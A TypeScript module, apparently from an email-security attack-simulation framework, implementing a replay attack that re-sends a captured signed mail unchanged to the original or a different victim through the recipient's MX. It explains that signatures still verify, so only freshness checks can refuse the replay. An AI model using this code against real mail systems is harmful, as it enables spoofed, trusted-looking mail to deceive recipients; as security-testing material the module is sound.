import { addressIn, rawHeader } from './compose-mail.js';
import type { AttackerContext, ServiceRef } from './footholds.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { mxOf, type ClientTls } from './smtp-send.js';
import { deliverAndRecord } from './spoof-direct.js';

export interface ReplayOptions {
  /** The captured mail, byte for byte (e.g. `obtained` body bytes of a capture). */
  readonly raw: Uint8Array;
  /** Envelope recipients: the original ones (from To) by default, or another victim. */
  readonly to?: string | readonly string[];
  /** MAIL FROM; default the From address of the captured mail. */
  readonly envelopeFrom?: string;
  /** Default: the first recipient domain's MX, port 25. */
  readonly mx?: ServiceRef;
  readonly tls?: ClientTls;
}

/**
 * Re-sends a captured mail unchanged (later, or to another recipient through the envelope only): every
 * signature in it still verifies, so only freshness checks (Message-ID seen before, signing time, the
 * recipient not in the signed To) can refuse it.
 */
export async function replayCapturedMail(ctx: AttackerContext, o: ReplayOptions): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('replay');
  const to =
    o.to === undefined
      ? (rawHeader(o.raw, 'To') ?? '')
          .split(',')
          .map((t) => addressIn(t))
          .filter((t): t is string => !!t)
      : typeof o.to === 'string'
        ? [o.to]
        : [...o.to];
  const from = o.envelopeFrom ?? addressIn(rawHeader(o.raw, 'From')) ?? '';
  rec.act(`replays captured mail ${rawHeader(o.raw, 'Message-ID') ?? ''} (${o.raw.byteLength} bytes, unchanged) to ${to.join(', ')}`);
  const mx = o.mx ?? { host: await mxOf(ctx, to[0]?.split('@')[1] ?? ''), port: 25 };
  return deliverAndRecord(ctx, rec, { target: mx, envelope: { from, to }, raw: o.raw, ...(o.tls ? { tls: o.tls } : {}) });
}
